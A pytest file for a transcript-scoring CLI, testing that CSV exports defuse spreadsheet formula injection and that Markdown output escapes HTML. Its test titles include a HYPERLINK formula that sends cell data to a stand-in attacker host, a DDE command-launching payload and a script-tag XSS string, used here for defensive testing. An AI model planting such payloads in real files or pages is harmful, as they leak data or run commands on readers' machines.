"""Issue 10.9: CSV cells cannot run as spreadsheet formulas; Markdown passes no raw HTML."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from click.testing import CliRunner

from hostile_builders import case_dict, write_transcript
from tui.cli.main import cli

TITLES = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "<script>alert(1)</script>"]


def _runs(tmp_path: Path) -> Path:
    runs = tmp_path / "runs"
    runs.mkdir()
    for i, title in enumerate(TITLES):
        write_transcript(runs / f"r{i}.jsonl", case_dict(title=title), "Order a CT scan.")
    assert CliRunner().invoke(cli, ["score", str(runs)]).exit_code == 0
    return runs


def test_csv_cells_are_spreadsheet_safe(tmp_path: Path) -> None:
    runs = _runs(tmp_path)
    out = tmp_path / "c.csv"
    result = CliRunner().invoke(cli, ["compare", str(runs), "--by", "scenario.title", "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    cells = [cell for row in rows[1:] for cell in (row[0], row[6])]
    assert cells and not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
    assert "'" + TITLES[0] in cells  # the text itself is kept, after the quote
    numbers = [row[7] for row in rows[1:] if row[7]]
    assert any(n.startswith("-") or n[0].isdigit() for n in numbers)  # numbers are not quoted


def test_markdown_escapes_html(tmp_path: Path) -> None:
    runs = _runs(tmp_path)
    result = CliRunner().invoke(cli, ["compare", str(runs), "--by", "scenario.title", "--format", "md"])
    assert result.exit_code == 0, result.output
    assert "<script>" not in result.stdout and "&lt;script&gt;alert(1)&lt;/script&gt;" in result.stdout
